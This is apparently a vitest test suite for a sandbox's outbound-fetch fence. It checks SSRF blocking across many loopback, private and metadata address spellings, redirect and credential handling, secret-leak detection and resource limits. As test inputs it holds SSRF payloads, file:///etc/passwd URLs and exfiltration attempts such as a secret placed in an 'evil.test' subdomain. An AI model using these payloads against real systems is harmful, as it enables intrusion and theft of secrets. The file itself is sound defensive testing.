import { setTimeout as sleep } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, expect } from 'vitest'
import { isPrivateAddress } from '#core/lib/address-range.ts'
import { verifies } from '../verifies.ts'
import { openSandboxWorld, openSite, type Given, type Site, type World } from './sandbox-world.ts'

/** Names as a resolver that an attacker owns would answer them. Loopback is where the test's own site is. */
const NAMES: Readonly<Record<string, readonly string[]>> = {
  'inside.example': ['127.0.0.1'],
  'mixed.example': ['93.184.215.14', '10.0.0.1'],
  'metadata.example': ['169.254.169.254'],
  'six.example': ['::1'],
  'mapped.example': ['::ffff:127.0.0.1'],
  'nat64.example': ['64:ff9b::7f00:1'],
  'shop.test': ['127.0.0.1'],
  'other.test': ['127.0.0.1'],
}

let world: World
let site: Site
let lookups: string[] = []

beforeAll(async () => {
  world = openSandboxWorld({
    resolve: async hostname => {
      lookups.push(hostname)
      const addresses = NAMES[hostname]
      if (addresses === undefined) throw Object.assign(new Error('no such name'), { code: 'ENOTFOUND' })
      return addresses.map(address => ({ address, family: address.includes(':') ? 6 : 4 }))
    },
  })
  site = await openSite((request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? '', 'http://site')
    const chunks: Buffer[] = []
    request.on('data', chunk => chunks.push(chunk as Buffer))
    request.on('end', () => {
      const body = Buffer.concat(chunks)
      if (pathname === '/to')
        response.writeHead(Number(searchParams.get('status') ?? 302), { location: searchParams.get('url') ?? '' }).end()
      else if (pathname === '/bytes') response.end(Buffer.alloc(Number(searchParams.get('n')), 97))
      else if (pathname === '/bomb') response.writeHead(200, { 'content-encoding': 'gzip' }).end(gzipSync(Buffer.alloc(5_000_000)))
      else if (pathname === '/loop') response.writeHead(302, { location: '/loop' }).end()
      else if (pathname === '/packed') response.writeHead(200, { 'content-encoding': 'gzip' }).end(gzipSync('unpacked'))
      else if (pathname === '/drip') {
        response.write('a')
        const drip = setInterval(() => response.write('a'), 20)
        response.on('close', () => clearInterval(drip))
      } else if (pathname === '/silent') void sleep(1)
      else
        response
          .writeHead(200, { 'content-type': 'application/json', 'x-of': 'site' })
          .end(JSON.stringify({ method: request.method, url: request.url, headers: request.headers, body: body.toString('latin1') }))
    })
  })
})
afterAll(async () => {
  await world[Symbol.asyncDispose]()
  await site[Symbol.asyncDispose]()
})

/** The fence of most tests: the names of the test's own site, allowed although they lead to this machine. */
const fence = { hosts: ['shop.test', 'other.test'], privateHosts: ['shop.test', 'other.test'] }
const at = (host: string, path: string) => `http://${host}:${site.port}${path}`
const get = (url: string, given: Given = {}) =>
  world.run(`const r = await fetch(${JSON.stringify(url)}); return [r.status, await r.text()]`, given)

verifies('sandbox.inside', 'fetch asks with method, headers and body, and answers with status, headers and body', async () => {
  const body = `const r = await fetch('${at('shop.test', '/echo?q=1')}', { method: 'post', headers: { 'X-Mine': 'a', Host: 'evil', 'Content-Length': '9', Connection: 'upgrade' }, body: new Uint8Array([0, 255, 65]) })
const clone = r.clone(); const said = await r.json(); let again; try { await r.text() } catch (e) { again = e.name }
return { status: r.status, ok: r.ok, type: r.headers.get('Content-Type'), of: r.headers.get('x-of'), said, again, bytes: (await clone.bytes()).length > 0, url: r.url }`
  const value = (await world.value(body, { fence })) as Record<string, any>
  expect(value).toMatchObject({
    status: 200,
    ok: true,
    type: 'application/json',
    of: 'site',
    again: 'TypeError',
    bytes: true,
    url: at('shop.test', '/echo?q=1'),
  })
  expect(value['said']).toMatchObject({
    method: 'POST',
    url: '/echo?q=1',
    body: '\u0000\u00ffA',
    headers: { 'x-mine': 'a', host: `shop.test:${site.port}`, 'content-length': '3' },
  })
  expect(value['said'].headers.connection).not.toBe('upgrade')
  const form = await world.value(
    `const r = await fetch('${at('shop.test', '/')}', { method: 'PUT', body: new URLSearchParams({ a: 'ü' }) }); return r.json()`,
    { fence },
  )
  expect(form).toMatchObject({ body: 'a=%C3%BC', headers: { 'content-type': 'application/x-www-form-urlencoded;charset=UTF-8' } })
  expect(await get(at('shop.test', '/packed'), { fence })).toMatchObject({ value: [200, 'unpacked'] })
  const outcome = await get(at('shop.test', '/bytes?n=10'), { fence })
  expect(outcome.fetches).toEqual([
    { method: 'GET', url: at('shop.test', '/bytes?n=10'), status: 200, bytes: 10, ms: expect.any(Number), failure: null },
  ])
})

verifies('sandbox.fence', 'only hosts on the list, by name or below a name, over http and https', async () => {
  for (const [url, hosts, why] of [
    ['http://elsewhere.test/', ['shop.test'], 'not on the list'],
    ['http://shop.test.evil.example/', ['shop.test'], 'not on the list'],
    ['http://evilshop.test/', ['*.shop.test', '*shop.test'], 'not on the list'],
    ['http://shop.test/', ['*.shop.test'], 'not on the list'],
    ['http://shop.test/', [], 'not on the list'],
    ['http://user:pw@shop.test/', ['shop.test'], 'name or password'],
    ['ftp://shop.test/', ['*'], 'only http and https'],
    ['file:///etc/passwd', ['*'], 'only http and https'],
    ['data:text/plain,x', ['*'], 'only http and https'],
  ] as const) {
    const outcome = await get(url, { fence: { hosts } })
    expect(outcome, url).toMatchObject({ kind: 'threw', name: 'TypeError', message: expect.stringContaining(why) })
    expect(outcome.fetches[0]?.failure).toContain(why)
  }
  for (const [host, hosts] of [
    ['shop.test', ['SHOP.test.']],
    ['shop.test', ['*']],
  ] as const)
    expect(await get(at(host, '/bytes?n=1'), { fence: { hosts, privateHosts: ['shop.test'] } })).toMatchObject({ value: [200, 'a'] })
})

verifies(
  'sandbox.fence',
  'nothing of this machine or its network, however it is written or resolved, and nothing is asked there',
  async () => {
    const before = site.asked()
    const spelled = [
      '127.0.0.1',
      '127.1',
      '2130706433',
      '0x7f000001',
      '0177.0.0.1',
      '0x7f.1',
      '0.0.0.0',
      'localhost',
      'LOCALHOST.',
      'a.localhost',
      '[::1]',
      '[::]',
      '[::ffff:127.0.0.1]',
      '[::ffff:7f00:1]',
      '[::127.0.0.1]',
      '[64:ff9b::127.0.0.1]',
      '[2002:7f00:1::]',
      '[fe80::1]',
      '[fd00:ec2::254]',
      '10.0.0.1',
      '172.31.255.255',
      '192.168.0.1',
      '100.64.0.1',
      '100.100.100.200',
      '169.254.169.254',
      '168.63.129.16',
      '224.0.0.1',
      '255.255.255.255',
      '１２７.0.0.1',
      '127。0。0。1',
    ]
    for (const host of [...spelled, ...Object.keys(NAMES).filter(name => name.endsWith('.example'))]) {
      const outcome = await get(`http://${host}:${site.port}/`, { fence: { hosts: ['*'] } })
      expect(outcome, host).toMatchObject({
        kind: 'threw',
        name: 'TypeError',
        message: expect.stringContaining('this machine or its network'),
      })
    }
    expect(site.asked()).toBe(before)
    // Allowed by address, and by the address that a name leads to.
    expect(await get(at('127.0.0.1', '/bytes?n=1'), { fence: { hosts: ['127.0.0.1'], privateHosts: ['127.0.0.1'] } })).toMatchObject({
      value: [200, 'a'],
    })
    // A wildcard allows nothing private.
    expect((await get(at('127.0.0.1', '/'), { fence: { hosts: ['*'], privateHosts: ['*'] } })).kind).toBe('threw')
  },
)

verifies('sandbox.fence', 'the ranges know every form in which an address of IPv4 hides in one of IPv6', () => {
  for (const inside of [
    '::ffff:10.0.0.1',
    '::10.0.0.1',
    '64:ff9b::a00:1',
    '64:ff9b::10.0.0.1',
    '64:ff9b:1::a00:1',
    '2002:a00:1::1',
    '2001:0:a00:1::',
    'fe80::1%eth0',
    'fec0::1',
    'ff02::1',
    '::',
    '198.18.0.1',
    '192.0.0.8',
    '240.0.0.1',
  ])
    expect(isPrivateAddress(inside), inside).toBe(true)
  for (const open of ['93.184.215.14', '64:ff9b::5db8:d70e', '2606:4700::1111', '::ffff:8.8.8.8', '11.0.0.1', '172.32.0.1', '100.128.0.1'])
    expect(isPrivateAddress(open), open).toBe(false)
})

verifies('sandbox.fence', 'a name is looked up once, for the connection itself: what was checked is what is connected to', async () => {
  lookups = []
  expect(await get(at('shop.test', '/bytes?n=1'), { fence })).toMatchObject({ value: [200, 'a'] })
  expect(lookups).toEqual(['shop.test'])
})

verifies('sandbox.fence', 'a redirect meets the same fence, and leaves credentials behind', async () => {
  const to = (url: string, status = 302) => at('shop.test', `/to?status=${status}&url=${encodeURIComponent(url)}`)
  for (const url of [
    'http://127.0.0.1/',
    'http://metadata.example/',
    'http://elsewhere.test/',
    'file:///etc/passwd',
    'http://[::ffff:7f00:1]/',
  ])
    expect(await get(to(url), { fence: { ...fence, hosts: [...fence.hosts, 'metadata.example', '127.0.0.1'] } }), url).toMatchObject({
      kind: 'threw',
      message: expect.stringContaining('refused'),
    })
  expect(await get(to(to(to(at('shop.test', '/bytes?n=1')))), { fence })).toMatchObject({ value: [200, 'a'] })
  expect(await get(at('shop.test', `/to?url=${encodeURIComponent('/to?url=x')}`), { fence })).toMatchObject({
    kind: expect.stringMatching(/returned|threw/),
  })
  const ask = (status: number, host: string) =>
    world.value(
      `const r = await fetch('${to(at(host, '/'), status)}', { method: 'POST', body: 'data', headers: { Authorization: 'Basic x', Cookie: 'c=1', 'X-Api-Key': config.KEY, 'X-Other': 'o' } }); return { ...(await r.json()), redirected: r.redirected }`,
      { config: { KEY: 'sekret-value-1' }, fence: { ...fence, secrets: [{ name: 'KEY', value: 'sekret-value-1' }] } },
    )
  const away = (await ask(307, 'other.test')) as Record<string, any>
  expect(away).toMatchObject({ method: 'POST', body: 'data', redirected: true, headers: { 'x-other': 'o' } })
  expect(Object.keys(away['headers'])).not.toEqual(expect.arrayContaining(['authorization']))
  for (const name of ['authorization', 'cookie', 'x-api-key']) expect(away['headers'][name]).toBeUndefined()
  const home = (await ask(302, 'shop.test')) as Record<string, any>
  expect(home).toMatchObject({ method: 'GET', body: '', headers: { authorization: 'Basic x', 'x-api-key': 'sekret-value-1' } })
  expect(home['headers']['content-type']).toBeUndefined()
  expect(
    await world.value(`const r = await fetch('${to('http://x/')}', { redirect: 'manual' }); return [r.status, r.headers.get('location')]`, {
      fence,
    }),
  ).toEqual([302, 'http://x/'])
  expect(await world.run(`await fetch('${to('/')}', { redirect: 'error' })`, { fence })).toMatchObject({ kind: 'threw', name: 'TypeError' })
})

verifies(
  'sandbox.fence-secrets',
  'a secret goes to hosts that are named, in no form to one that only * lets in, and encrypted',
  async () => {
    const value = 'Tok/en+42 "quoted"'
    const before = site.asked()
    const ways = [
      `fetch('http://shop.test:${site.port}/?q=' + encodeURIComponent(config.KEY))`,
      `fetch('http://shop.test:${site.port}/' + btoa(config.KEY))`,
      `fetch('http://shop.test:${site.port}/', { headers: { 'x-a': config.KEY } })`,
      `fetch('http://shop.test:${site.port}/', { headers: { 'x-a': config.KEY.slice(0, 8), 'x-b': config.KEY.slice(8) } })`,
      `fetch('http://shop.test:${site.port}/', { method: 'POST', body: JSON.stringify({ deep: [config.KEY] }) })`,
      `fetch('http://shop.test:${site.port}/', { method: 'POST', body: new TextEncoder().encode('a' + config.KEY) })`,
      `fetch('http://shop.test:${site.port}/', { method: 'POST', body: [...new TextEncoder().encode(config.KEY)].map(b => b.toString(16).padStart(2, '0')).join('') })`,
      `fetch('http://shop.test:${site.port}/', { method: 'POST', body: new URLSearchParams({ a: config.KEY }) })`,
    ]
    const given = (hosts: string[], privateHosts: string[]) => ({
      config: { KEY: value },
      fence: { hosts, privateHosts, secrets: [{ name: 'KEY', value }] },
    })
    for (const way of ways) {
      const outcome = await world.run(`await ${way}`, given(['*'], ['shop.test']))
      expect(outcome, way).toMatchObject({ kind: 'threw', message: expect.stringContaining('sent a secret') })
      expect(JSON.stringify(outcome.kind === 'threw' && outcome.message)).not.toContain(value)
      expect(await world.run(`const r = await ${way}; return r.status`, given(['*', 'shop.test'], ['shop.test'])), way).toMatchObject({
        value: 200,
      })
    }
    expect(site.asked() - before).toBe(ways.length)
    // Without encryption to the open internet: refused before any name is looked up.
    lookups = []
    expect(await world.run('await fetch("http://open.test/", { headers: { a: config.KEY } })', given(['open.test'], []))).toMatchObject({
      message: expect.stringContaining('use https'),
    })
    expect(lookups).toEqual([])
    // In a name, which is written in small letters.
    const inName = {
      config: { KEY: 'AbCdEfGh12' },
      fence: { hosts: ['*'], privateHosts: [], secrets: [{ name: 'KEY', value: 'AbCdEfGh12' }] },
    }
    expect(await world.run('await fetch("https://" + config.KEY + ".evil.test/")', inName)).toMatchObject({
      message: expect.stringContaining('sent a secret'),
    })
    // Sent on by the host that may have it to one that may not.
    const passed = `const r = await fetch('${at('shop.test', '/to')}?url=' + encodeURIComponent('${at('other.test', '/?k=')}' + encodeURIComponent(config.KEY)))`
    expect(await world.run(passed, given(['*', 'shop.test'], ['shop.test', 'other.test']))).toMatchObject({
      kind: 'threw',
      message: expect.stringContaining(`other.test:${site.port} is refused: it would be sent a secret`),
    })
  },
)

verifies('sandbox.fence-bounds', 'fetches are bounded in number, in bytes after unpacking, in redirects and in time', async () => {
  const many = await world.run(`for (let i = 0; i < 9; i++) await fetch('${at('shop.test', '/bytes?n=1')}')`, {
    fence,
    limits: { fetches: 3 },
  })
  expect(many).toMatchObject({ kind: 'threw', message: expect.stringContaining('At most 3 fetches') })
  expect(many.fetches.filter(({ failure }) => failure === null)).toHaveLength(3)
  for (const path of ['/bytes?n=1000000', '/bomb'])
    expect(await get(at('shop.test', path), { fence, limits: { fetchBytes: 100_000 } }), path).toMatchObject({
      kind: 'threw',
      message: expect.stringContaining('100000 bytes'),
    })
  const sum = `for (let i = 0; i < 9; i++) await fetch('${at('shop.test', '/bytes?n=30000')}')`
  const summed = await world.run(sum, { fence, limits: { fetchBytes: 100_000 } })
  expect(summed.fetches).toHaveLength(4)
  const loop = await get(at('shop.test', '/loop'), { fence })
  expect(loop).toMatchObject({ kind: 'threw', message: expect.stringContaining('more than 10 times') })
  for (const path of ['/drip', '/silent']) {
    const begun = performance.now()
    const outcome = await get(at('shop.test', path), { fence, limits: { timeoutMs: 500 } })
    expect(outcome, path).toMatchObject({ kind: 'stopped', reason: 'timeout' })
    expect(performance.now() - begun).toBeLessThan(5_000)
  }
  expect(await world.run(`await fetch('${at('shop.test', '/drip')}', { signal: AbortSignal.timeout(100) })`, { fence })).toMatchObject({
    kind: 'threw',
    name: 'TimeoutError',
  })
  expect(await get('http://nowhere.test/', { fence: { hosts: ['*'] } })).toMatchObject({
    kind: 'threw',
    name: 'TypeError',
    message: 'The request failed: ENOTFOUND.',
  })
})

verifies('sandbox.fence-bounds', 'no proxy of the environment is asked', async () => {
  await using proxy = await openSite((_request, response) => response.end('proxied'))
  const saved = { ...process.env }
  Object.assign(process.env, {
    HTTP_PROXY: `http://127.0.0.1:${proxy.port}`,
    http_proxy: `http://127.0.0.1:${proxy.port}`,
    NODE_USE_ENV_PROXY: '1',
  })
  try {
    expect(await get(at('shop.test', '/bytes?n=2'), { fence })).toMatchObject({ value: [200, 'aa'] })
    expect(proxy.asked()).toBe(0)
  } finally {
    for (const name of ['HTTP_PROXY', 'http_proxy', 'NODE_USE_ENV_PROXY'])
      if (saved[name] === undefined) Reflect.deleteProperty(process.env, name)
  }
})
